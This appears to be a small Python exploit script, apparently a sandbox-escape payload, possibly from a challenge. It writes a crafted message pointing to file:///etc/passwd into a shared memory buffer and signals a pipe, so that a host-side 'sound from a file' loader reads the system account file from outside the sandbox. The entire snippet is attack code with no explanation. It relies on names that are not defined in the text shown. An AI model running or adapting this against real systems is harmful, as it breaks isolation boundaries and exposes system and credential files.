# note: a sound from a file
# ends: sandbox
import os
import struct

raw = b"\x03" + struct.pack("<I", 18) + b"file:///etc/passwd"
begin = 16 + board.output
board.map[begin : begin + len(raw)] = raw
struct.pack_into("<I", board.map, 8, len(raw))
os.write(PIPE, Ending(None, 1).encode())
os._exit(0)
